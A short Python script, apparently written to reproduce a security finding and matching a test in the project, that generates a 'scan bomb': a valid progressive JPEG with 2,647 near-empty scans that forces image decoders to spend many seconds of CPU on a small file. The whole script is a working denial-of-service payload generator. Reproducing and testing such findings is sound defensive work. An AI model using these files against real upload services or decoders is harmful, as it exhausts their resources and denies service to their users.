#!/usr/bin/env python3
"""Writes a legal progressive JPEG with the most scans the standard allows (issue 24, finding 1).

usage: scan-bomb.py WIDTH HEIGHT OUT.jpg

Flat grey, 4:4:4 YCbCr: one DC scan, then for each component and each AC coefficient 1..63 alone a
first scan at Al=13 and 13 refinement scans down to Al=0 (ITU T.81 G.1.1): 1 + 3 x 63 x 14 = 2,647
scans. Every AC coefficient is zero, so each AC scan is a few end-of-band runs, a few bytes, while a
decoder still walks every block once per scan. 6320x6320 gives the issue's ~440 KB, ~21 s file.
The same bytes as tests/Wati.Tests/Uploads/ScanBomb.cs writes.
"""
import struct
import sys


def segment(marker, payload):
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + bytes(payload)


class Bits:
    def __init__(self):
        self.out, self.acc, self.n = bytearray(), 0, 0

    def write(self, value, length):
        for i in range(length - 1, -1, -1):
            self.acc = (self.acc << 1) | ((value >> i) & 1)
            self.n += 1
            if self.n == 8:
                self.out.append(self.acc)
                if self.acc == 0xFF:
                    self.out.append(0)
                self.acc, self.n = 0, 0

    def flush(self):
        while self.n:
            self.write(1, 1)
        return bytes(self.out)


def bomb(width, height):
    o = bytearray([0xFF, 0xD8])
    o += segment(0xDB, [0] + [1] * 64)
    o += segment(0xC2, [8, height >> 8, height & 255, width >> 8, width & 255, 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0])
    o += segment(0xC4, [0x00, 1] + [0] * 15 + [0])
    o += segment(0xC4, [0x10, 0, 0, 0, 15] + [0] * 12 + [r << 4 for r in range(15)])
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    o += segment(0xDA, [3, 1, 0, 2, 0, 3, 0, 0, 0, 0])
    dc = Bits()
    for _ in range(blocks * 3):
        dc.write(0, 1)
    o += dc.flush()
    for component in (1, 2, 3):
        for k in range(1, 64):
            for al in range(13, -1, -1):
                ah = 0 if al == 13 else al + 1
                o += segment(0xDA, [1, component, 0, k, k, (ah << 4) | al])
                bits, left = Bits(), blocks
                while left:
                    run = min(left, 32767)
                    r = run.bit_length() - 1
                    bits.write(r, 4)
                    bits.write(run - (1 << r), r)
                    left -= run
                o += bits.flush()
    return bytes(o + b"\xff\xd9")


if __name__ == "__main__":
    w, h, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    with open(out, "wb") as f:
        f.write(bomb(w, h))
